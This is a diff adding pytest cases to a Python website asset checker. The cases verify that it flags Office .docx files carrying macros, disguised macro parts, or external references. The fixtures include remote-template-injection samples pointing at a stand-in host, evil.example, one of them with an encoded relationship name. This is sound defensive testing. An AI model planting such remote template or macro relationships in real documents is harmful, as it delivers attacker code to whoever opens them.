@@ -13,6 +13,7 @@ from quangang.checks import RULES
 from quangang.checks.asset import Asset
 from quangang.checks.manual import examples
 from quangang.checks.runner import check_asset
+from quangang.text.asset_kinds import asset_fault
 from quangang.text.exif import PictureFacts, picture_facts, without_metadata
 
 
@@ -164,3 +165,36 @@ def test_a_bomb_is_not_unpacked() -> None:
         archive.writestr("word/document.xml", b" " * (40 * 1024 * 1024))
     found = check_asset(Asset("cases/form.docx", buffer.getvalue()))
     assert "太大" in found[0].problem.message
+
+
+RELATION = '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/></Relationships>'
+REMOTE = ' TargetMode="External"'
+OFFICE = [
+    # (part, what is in it, what is said)
+    ("word/vbaProject.bin", "x", "带宏"),
+    ("word/VBAPROJECT.BIN", "x", "带宏"),
+    ("word/_rels/document.xml.rels", RELATION.format("vbaProject", "picture.bin", ""), "带宏"),  # by another name
+    ("[Content_Types].xml", "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>", "带宏"),
+    ("word/_rels/settings.xml.rels", RELATION.format("attachedTemplate", "http://evil.example/x.dotm", REMOTE), "外面的东西"),
+    ("word/_rels/settings.xml.rels", RELATION.format("attached&#84;emplate", "http://evil.example/x.dotm", REMOTE), "外面的东西"),
+    ("word/_rels/document.xml.rels", RELATION.format("image", "http://evil.example/x.png", REMOTE), "外面的东西"),
+    ("word/_rels/document.xml.rels", RELATION.format("image", "media/x.png", ""), ""),
+    ("word/_rels/document.xml.rels", RELATION.format("hyperlink", "https://www.gov.cn/", REMOTE), ""),
+    ("word/_rels/document.xml.rels", "x\0", "不正常"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("part", "held", "said"), OFFICE, ids=[f"{index}" for index in range(len(OFFICE))])
+def test_what_acts_by_itself_in_an_office_file(part: str, held: str, said: str) -> None:
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w") as archive:
+        archive.writestr("word/document.xml", "<a/>")
+        archive.writestr(part, held)
+    fault, _ = asset_fault(".docx", packed.getvalue())
+    assert said in fault
+    assert bool(said) == bool(fault)
+
+
+def test_a_file_without_an_ending_is_told_so() -> None:
+    (report,) = [one for one in check_asset(Asset("docs/s", b"x")) if one.problem.rule == "asset-types"]
+    assert report.problem.message == "没有扩展名的文件不能放进网站"
